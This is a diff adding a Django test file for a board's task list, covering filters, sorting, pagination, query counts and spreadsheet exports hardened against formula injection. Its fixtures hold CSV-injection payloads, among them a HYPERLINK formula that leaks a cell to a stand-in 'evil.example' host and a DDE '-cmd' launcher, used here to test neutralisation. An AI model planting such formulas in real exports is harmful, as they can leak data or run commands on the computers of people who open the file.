@@ -1,0 +1,239 @@
+"""The board's task list: filters, sorting, pages that keep the filters, and exports of
+exactly the filtered rows in which no cell can run as a formula."""
+
+import csv
+import io
+from datetime import datetime, time, timedelta
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from actionplans.models import FutureAction, KeyTask, Lead, Rag
+from actionplans.services import TaskChange, record_update
+from actionplans.spreadsheets import neutralise
+from inspections.models import Agency, BoardMeeting
+
+TODAY = timezone.localdate()
+
+
+def days_ago(days):
+    return timezone.make_aware(datetime.combine(TODAY - timedelta(days=days), time(10)))
+
+
+@pytest.fixture
+def rated(stockton):
+    """The Stockton plan with ratings: police tasks red, council tasks green, the rest amber
+    but two left unrated."""
+    tasks = KeyTask.objects.filter(section__plan=stockton)
+    tasks.update(rag=Rag.AMBER)
+    tasks.filter(section__position=3).update(rag=Rag.RED)
+    tasks.filter(section__position=2).update(rag=Rag.GREEN)
+    tasks.filter(section__position=5, position__gte=4).update(rag=Rag.UNRATED)
+    return stockton
+
+
+def descriptions(response):
+    return [row.record.description for row in response.context["table"].paginated_rows]
+
+
+def in_plan_order(queryset):
+    return list(
+        queryset.order_by("section__position", "position").values_list("description", flat=True)
+    )
+
+
+def get_list(client, plan, **params):
+    return client.get(reverse("task_list", args=[plan.pk]), params)
+
+
+def test_filter_by_rating_section_and_text(client, board_member, rated):
+    client.force_login(board_member)
+    tasks = KeyTask.objects.filter(section__plan=rated)
+
+    assert descriptions(get_list(client, rated, rag="red")) == in_plan_order(
+        tasks.filter(rag="red")
+    )
+    both = descriptions(get_list(client, rated, rag=["green", "unrated"]))
+    assert both == in_plan_order(tasks.filter(rag__in=["green", ""]))
+    section = rated.sections.get(position=4)
+    assert descriptions(get_list(client, rated, section=section.pk)) == in_plan_order(
+        tasks.filter(section=section)
+    )
+    # Words in any order, any case, in the task, its measures or its leads' names.
+    found = descriptions(get_list(client, rated, q="niche FLAGS"))
+    assert found == in_plan_order(tasks.filter(description__icontains="niche"))
+    assert len(descriptions(get_list(client, rated, q="Whitehead"))) == 1  # a lead's name
+
+
+def test_filter_by_lead_agency_includes_tasks_for_all_partners(client, board_member, rated):
+    client.force_login(board_member)
+    police = Agency.objects.get(name="Cleveland Police")
+
+    found = descriptions(get_list(client, rated, agency=police.pk))
+
+    all_partners = KeyTask.objects.filter(section__plan=rated, leads__all_partners=True)
+    assert len(found) == 11
+    assert set(in_plan_order(all_partners)) <= set(found)
+
+
+def test_filter_overdue_stale_and_changed_since_a_meeting(
+    client, board_member, plan_manager, rated
+):
+    pvp = KeyTask.objects.get(description__startswith="Review capacity in the PVP")
+    record_update(
+        task_id=pvp.pk,
+        user=plan_manager,
+        expected_version=pvp.version,
+        change=TaskChange(rag=Rag.GREEN, reason="Done"),
+        at=days_ago(5),
+    )
+    day = BoardMeeting.objects.create(area=rated.inspection.area, date=TODAY - timedelta(10)).date
+    FutureAction.objects.filter(task__section__plan=rated).update(target_date=None)
+    FutureAction.objects.filter(task=pvp).update(target_date=TODAY - timedelta(days=1))
+    client.force_login(board_member)
+
+    assert descriptions(get_list(client, rated, overdue="on")) == [pvp.description]
+    assert descriptions(get_list(client, rated, changed="on")) == [pvp.description]
+    stale = descriptions(get_list(client, rated, stale="on", since=day.isoformat()))
+    assert len(stale) == 24 and pvp.description not in stale
+    # Compared with a date before the change, the task is still "changed".
+    earlier = (TODAY - timedelta(days=30)).isoformat()
+    assert descriptions(get_list(client, rated, changed="on", since=earlier)) == [pvp.description]
+
+
+def test_sorting_by_rating_puts_the_worst_first(client, board_member, rated):
+    client.force_login(board_member)
+    rows = get_list(client, rated, sort="rag").context["table"].paginated_rows
+    ratings = [row.record.rag for row in rows]
+    assert ratings == sorted(ratings, key=["", "red", "amber", "green"].index)
+
+
+def test_pages_keep_the_filters(client, board_member, rated):
+    section = rated.sections.get(position=3)
+    for n in range(30):
+        KeyTask.objects.create(section=section, position=100 + n, description=f"Extra {n}")
+    client.force_login(board_member)
+
+    response = get_list(client, rated, section=section.pk)
+    html = response.content.decode()
+
+    assert len(descriptions(response)) == 25
+    assert f"?section={section.pk}&amp;page=2" in html
+    second = get_list(client, rated, section=section.pk, page=2)
+    assert len(descriptions(second)) == 36 - 25
+
+
+# Exports
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\x01=1+1", "'=1+1"),  # a control character cannot hide a formula
+        ("Review capacity = demand", "Review capacity = demand"),
+        ("", ""),
+        (None, ""),
+        (3, "3"),
+    ],
+)
+def test_a_cell_that_could_run_as_a_formula_is_neutralised(text, written):
+    assert neutralise(text) == written
+
+
+@pytest.fixture
+def hostile(rated):
+    """A task whose text a spreadsheet would run, in the red police section."""
+    pvp = KeyTask.objects.get(description__startswith="Review capacity in the PVP")
+    pvp.description = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    pvp.success_measures = "@SUM(1+1)"
+    pvp.save()
+    Lead.objects.filter(task=pvp).update(name="-cmd|' /C calc'!A0")
+    return pvp
+
+
+def test_csv_export_holds_the_filtered_rows_as_inert_text(client, board_member, hostile, rated):
+    client.force_login(board_member)
+    response = client.get(reverse("task_list_csv", args=[rated.pk]), {"rag": "red"})
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert "attachment" in response["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    header, body = rows[0], rows[1:]
+    assert header[:4] == ["Section", "Key task", "Lead(s)", "RAG"]
+    expected = in_plan_order(KeyTask.objects.filter(section__plan=rated, rag="red"))
+    assert [row[1] for row in body] == [neutralise(text) for text in expected]
+    assert {row[3] for row in body} == {"Behind schedule"}  # the label, as text
+    hostile_row = next(row for row in body if "HYPERLINK" in row[1])
+    assert hostile_row[1].startswith("'=")
+    assert hostile_row[2].startswith("'-cmd")
+    assert "'@SUM(1+1)" in hostile_row
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_excel_export_has_the_same_rows_as_the_csv_and_no_formula(
+    client, board_member, hostile, rated
+):
+    client.force_login(board_member)
+    query = {"rag": ["red", "amber"], "sort": "-rag"}
+    as_csv = client.get(reverse("task_list_csv", args=[rated.pk]), query)
+    as_xlsx = client.get(reverse("task_list_xlsx", args=[rated.pk]), query)
+
+    assert as_xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    cells = [list(row) for row in sheet.iter_rows()]
+    values = [[cell.value or "" for cell in row] for row in cells]
+    assert values == list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    assert all(cell.data_type == "s" for row in cells for cell in row if cell.value is not None)
+    assert len(values) == 1 + KeyTask.objects.filter(rag__in=["red", "amber"]).count()
+    # In the order asked for: "-rag" puts the best first, amber before red.
+    ratings = [row[3] for row in values[1:]]
+    assert ratings == sorted(ratings, key=["On track", "Behind schedule"].index)
+
+
+def test_export_of_a_plan_the_user_cannot_see_is_not_found(client, other_board_member, rated):
+    client.force_login(other_board_member)
+    assert client.get(reverse("task_list_xlsx", args=[rated.pk])).status_code == 404
+
+
+# A fixed number of queries
+
+# session, user, memberships, plan, meetings, the sections and agencies to filter by,
+# the count for the pages, the page's tasks, their leads, the leads' agencies
+TASK_LIST_QUERIES = 11
+
+
+def test_task_list_queries_do_not_grow_with_tasks(
+    client, board_member, plan_manager, rated, django_assert_num_queries
+):
+    police = Agency.objects.get(name="Cleveland Police")
+    BoardMeeting.objects.create(area=rated.inspection.area, date=TODAY - timedelta(days=20))
+    client.force_login(board_member)
+    url = reverse("task_list", args=[rated.pk])
+    query = {"agency": police.pk, "sort": "rag", "rag": ["red", "amber"], "q": "review"}
+    client.get(url)
+    for size in ("small", "large"):
+        with django_assert_num_queries(TASK_LIST_QUERIES):
+            assert client.get(url).status_code == 200
+        with django_assert_num_queries(TASK_LIST_QUERIES + 1):  # the chosen agency, checked
+            assert client.get(url, query).status_code == 200
+        if size == "small":
+            section = rated.sections.get(position=3)
+            for n in range(40):
+                t = KeyTask.objects.create(section=section, position=100 + n, description=f"T{n}")
+                Lead.objects.create(task=t, name="Lead").agencies.add(police)
+                record_update(
+                    task_id=t.pk,
+                    user=plan_manager,
+                    expected_version=1,
+                    change=TaskChange(rag=Rag.RED, reason="r"),
+                    at=days_ago(1),
+                )
+    assert KeyTask.objects.filter(section__plan=rated).count() == 65
